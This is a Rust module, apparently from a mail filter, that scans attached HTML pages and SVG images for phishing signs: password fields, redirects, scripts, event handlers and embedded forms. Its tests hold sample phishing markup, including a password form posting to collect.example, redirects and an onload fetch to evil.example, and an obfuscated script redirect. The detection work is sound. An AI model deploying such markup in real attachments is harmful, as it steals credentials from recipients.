//! Active content in an attached page or SVG picture: the credential-phishing
//! attachment. The page asks for a password itself, or sends the reader on to
//! another address the moment it opens; an SVG "picture" runs a script or draws
//! a form. The mail filter sees a document or an image, the reader's browser a
//! login page (Microsoft stopped showing inline SVG in Outlook on the web and
//! the new Outlook in September 2025 for the scripts it carries; rspamd scores
//! every attached page, MIME_BAD_EXTENSION: "dedicated HTML attachments are
//! considered harmful").
//!
//! Saved web pages run scripts and hold search forms, so in a page only the two
//! phishing moves count: a password field and a redirect. A picture has no use
//! for any of it, so in an SVG a script, an event handler, a `javascript:` link
//! or an embedded HTML form counts too.

use super::bytes::{contains_ignore_case, starts_ignore_case};

/// What an attached page or picture does when it is opened.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum ActiveSign {
    /// An `<input type="password">`: the page collects a password.
    PasswordField,
    /// A `<meta http-equiv="refresh">` or a script that assigns the location:
    /// the page sends the reader elsewhere.
    Redirect,
    /// In an SVG: a `<script>`, an `on…=` event handler or a `javascript:` link.
    Script,
    /// In an SVG: a `<foreignObject>` holding an HTML form, input or frame.
    EmbeddedForm,
}

impl ActiveSign {
    /// The stable key shown in findings and the analysis view.
    pub fn key(self) -> &'static str {
        match self {
            ActiveSign::PasswordField => "password-field",
            ActiveSign::Redirect => "redirect",
            ActiveSign::Script => "script",
            ActiveSign::EmbeddedForm => "embedded-form",
        }
    }
}

/// The signs a page (`svg`: an SVG picture) shows, in the order of `ActiveSign`.
/// memchr finds the bytes every sign contains (`=` and `.`; in an SVG `<` too,
/// then `:` in a second run) and a bounded span around each is read, so a 10 MB
/// page costs one or two scans (one more for an SVG with a `<foreignObject>`);
/// a `match` on every byte took 18 ms of the lint of a 7.3 MB page (#14).
pub fn detect(page: &[u8], svg: bool) -> Vec<ActiveSign> {
    let mut found = [false; 4];
    let mut foreign_object = None;
    let mut at_mark = |at: usize| {
        let sign = match page[at] {
            b'=' => at_equals(page, at, svg),
            b'.' => location_move(page, at).then_some(ActiveSign::Redirect),
            b'<' => {
                let after = &page[at + 1..];
                if starts_ignore_case(after, b"foreignobject") {
                    foreign_object.get_or_insert(at);
                }
                starts_ignore_case(after, b"script").then_some(ActiveSign::Script)
            }
            _ => ends_with_word(&page[..at], b"javascript").then_some(ActiveSign::Script),
        };
        if let Some(sign) = sign {
            found[sign as usize] = true;
        }
    };
    if svg {
        memchr::memchr3_iter(b'=', b'.', b'<', page).for_each(&mut at_mark);
        memchr::memchr_iter(b':', page).for_each(&mut at_mark);
    } else {
        memchr::memchr2_iter(b'=', b'.', page).for_each(&mut at_mark);
    }
    // A `<foreignObject>` with an HTML form, input or frame after it (one more scan, only then).
    if let Some(at) = foreign_object {
        let after = &page[at..];
        found[ActiveSign::EmbeddedForm as usize] =
            [&b"<form"[..], b"<input", b"<iframe"].iter().any(|t| contains_ignore_case(after, t));
    }
    [ActiveSign::PasswordField, ActiveSign::Redirect, ActiveSign::Script, ActiveSign::EmbeddedForm]
        .into_iter()
        .filter(|s| found[*s as usize])
        .collect()
}

/// The attribute before an `=` at `at`: `type=password`, `http-equiv=refresh`
/// naming an address, or (in an SVG) an `on…=` event handler.
fn at_equals(page: &[u8], at: usize, svg: bool) -> Option<ActiveSign> {
    let before = trim_end_spaces(&page[..at]);
    let after = trim_start_spaces(&page[at + 1..]);
    let value = after.strip_prefix(b"\"").or_else(|| after.strip_prefix(b"'")).unwrap_or(after);
    if ends_with_word(before, b"type") && starts_ignore_case(value, b"password") {
        return Some(ActiveSign::PasswordField);
    }
    if ends_with_word(before, b"http-equiv") && starts_ignore_case(value, b"refresh") {
        // The rest of the tag, up to MAX_META_TAIL bytes: an address to go to.
        let tail = &page[at..page.len().min(at + MAX_META_TAIL)];
        let tag = &tail[..tail.iter().position(|&b| b == b'>').unwrap_or(tail.len())];
        return contains_ignore_case(tag, b"url=").then_some(ActiveSign::Redirect);
    }
    if svg && is_event_handler(before) {
        return Some(ActiveSign::Script);
    }
    None
}

/// `location.href =`, `location.replace(`, `location.assign(`, or `window.location =`
/// (also `document.`, `top.`): a script that moves the page, at the `.` at `at`.
fn location_move(page: &[u8], at: usize) -> bool {
    let before = &page[..at];
    let after = &page[at + 1..];
    // `name =` (an assignment, not `==`) at the start of `after`.
    let assigned = |name: &[u8]| {
        starts_ignore_case(after, name) && {
            let rest = trim_start_spaces(&after[name.len()..]);
            rest.first() == Some(&b'=') && rest.get(1) != Some(&b'=')
        }
    };
    if ends_with_word(before, b"location") {
        return assigned(b"href") || starts_ignore_case(after, b"replace(") || starts_ignore_case(after, b"assign(");
    }
    [&b"window"[..], b"document", b"top"].iter().any(|o| ends_with_word(before, o)) && assigned(b"location")
}

/// Most bytes of a `<meta http-equiv=…>` tag read after `http-equiv` (ours: such a
/// tag is under 200 bytes).
const MAX_META_TAIL: usize = 512;

/// `on` and three or more letters, after white space: an event handler attribute
/// (`onload`, `onerror`, `onbegin`…; HTML's global handlers, SVG 2 §15.3).
fn is_event_handler(before: &[u8]) -> bool {
    let letters = before.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count();
    let name = &before[before.len() - letters..];
    letters >= 5
        && name[..2].eq_ignore_ascii_case(b"on")
        && before.len() > letters
        && before[before.len() - letters - 1].is_ascii_whitespace()
}

/// Whether `text` ends with `word` (any case), not as the end of a longer name.
fn ends_with_word(text: &[u8], word: &[u8]) -> bool {
    text.len() >= word.len()
        && text[text.len() - word.len()..].eq_ignore_ascii_case(word)
        && text.len().checked_sub(word.len() + 1).is_none_or(|i| !(text[i].is_ascii_alphanumeric() || text[i] == b'-' || text[i] == b'_'))
}

/// `text` without the white space at its end (at most 8 bytes of it, as around an `=`).
fn trim_end_spaces(text: &[u8]) -> &[u8] {
    let keep = text.iter().rposition(|b| !b.is_ascii_whitespace()).map_or(0, |p| p + 1);
    &text[..keep.max(text.len().saturating_sub(8))]
}

/// `text` without the white space at its start (at most 8 bytes of it).
fn trim_start_spaces(text: &[u8]) -> &[u8] {
    let skip = text.iter().take(8).take_while(|b| b.is_ascii_whitespace()).count();
    &text[skip..]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_login_page_and_a_redirecting_page_are_active() {
        let login = b"<html><body><form action=\"https://collect.example/p\"><input name=u><INPUT TYPE=PASSWORD name=p></form></body></html>";
        assert_eq!(detect(login, false), [ActiveSign::PasswordField]);
        let refresh = b"<html><head><meta http-equiv=\"Refresh\" content=\"0; URL=https://evil.example/\"></head></html>";
        assert_eq!(detect(refresh, false), [ActiveSign::Redirect]);
        let script = b"<html><script>window.location.href = 'https://evil.example/?e=' + atob('YQ==')</script></html>";
        assert_eq!(detect(script, false), [ActiveSign::Redirect]);
    }

    #[test]
    fn unclosed_meta_tags_are_read_in_linear_time() {
        // 20,000 refreshes without an address or a `>`: each is read at most MAX_META_TAIL bytes.
        let mut page = b"<meta http-equiv=refresh content=0 ".repeat(20_000);
        assert_eq!(detect(&page, false), []);
        page.extend_from_slice(b"<meta http-equiv=refresh content=\"0;url=https://evil.example\">");
        assert_eq!(detect(&page, false), [ActiveSign::Redirect]);
    }

    #[test]
    fn a_saved_page_with_scripts_and_a_search_form_is_not() {
        let saved = b"<html><head><script src=\"app.js\"></script><script>dataLayer.push({})</script></head>\
            <body onload=\"init()\"><form action=\"https://shop.example/search\"><input name=q></form>\
            <meta http-equiv=\"content-type\" content=\"text/html\"><p data-location=\"Paris\">Order 1042</p></body></html>";
        assert_eq!(detect(saved, false), []);
    }

    #[test]
    fn an_svg_that_scripts_or_draws_a_form_is_active_and_a_logo_is_not() {
        let scripted = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.assign('https://evil.example')</script></svg>";
        assert_eq!(detect(scripted, true), [ActiveSign::Redirect, ActiveSign::Script]);
        let handler = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://evil.example')\"><rect/></svg>";
        assert_eq!(detect(handler, true), [ActiveSign::Script]);
        let form = b"<svg><foreignObject width=\"400\" height=\"300\"><body xmlns=\"http://www.w3.org/1999/xhtml\">\
            <form action=\"https://evil.example\"><input type=\"password\"/></form></body></foreignObject></svg>";
        assert_eq!(detect(form, true), [ActiveSign::PasswordField, ActiveSign::EmbeddedForm]);
        let logo = b"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><title>Logo</title>\
            <a href=\"https://shop.example/\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"#0a0\"/></a></svg>";
        assert_eq!(detect(logo, true), []);
    }

    /// The scan before memchr found the marks (#14): a `match` on every byte.
    fn every_byte(page: &[u8], svg: bool) -> Vec<ActiveSign> {
        let mut found = [false; 4];
        let mut foreign_object = None;
        for (at, &byte) in page.iter().enumerate() {
            let sign = match byte {
                b'=' => at_equals(page, at, svg),
                b'.' => location_move(page, at).then_some(ActiveSign::Redirect),
                b'<' if svg => {
                    let after = &page[at + 1..];
                    if starts_ignore_case(after, b"foreignobject") {
                        foreign_object.get_or_insert(at);
                    }
                    starts_ignore_case(after, b"script").then_some(ActiveSign::Script)
                }
                b':' if svg => ends_with_word(&page[..at], b"javascript").then_some(ActiveSign::Script),
                _ => None,
            };
            if let Some(sign) = sign {
                found[sign as usize] = true;
            }
        }
        if let Some(at) = foreign_object {
            found[ActiveSign::EmbeddedForm as usize] =
                [&b"<form"[..], b"<input", b"<iframe"].iter().any(|t| contains_ignore_case(&page[at..], t));
        }
        [ActiveSign::PasswordField, ActiveSign::Redirect, ActiveSign::Script, ActiveSign::EmbeddedForm]
            .into_iter()
            .filter(|s| found[*s as usize])
            .collect()
    }

    #[test]
    fn the_marks_memchr_finds_give_the_signs_of_a_scan_of_every_byte() {
        let pieces = ["<input type=", "password", "PASSWORD", "\"", " ", "=", ".", "<", ":", "javascript", "JavaScript",
            "<meta http-equiv=", "refresh", "content=\"0;url=https://e.example\"", ">", "location", ".href", "window",
            "location.assign(", "<script", "<foreignObject", "<form", "<iframe", "onload", "on", "x", "\n", "'"];
        let (mut texts, mut active) = (0, 0);
        crate::text::generated_texts(&pieces, 6000, 16, |text| {
            texts += 1;
            for svg in [false, true] {
                let signs = detect(text.as_bytes(), svg);
                assert_eq!(signs, every_byte(text.as_bytes(), svg), "{text:?} svg {svg}");
                active += usize::from(!signs.is_empty());
            }
        });
        assert_eq!(texts, 6000);
        assert!(active > 2000, "the generated pages show signs: {active}");
    }
}
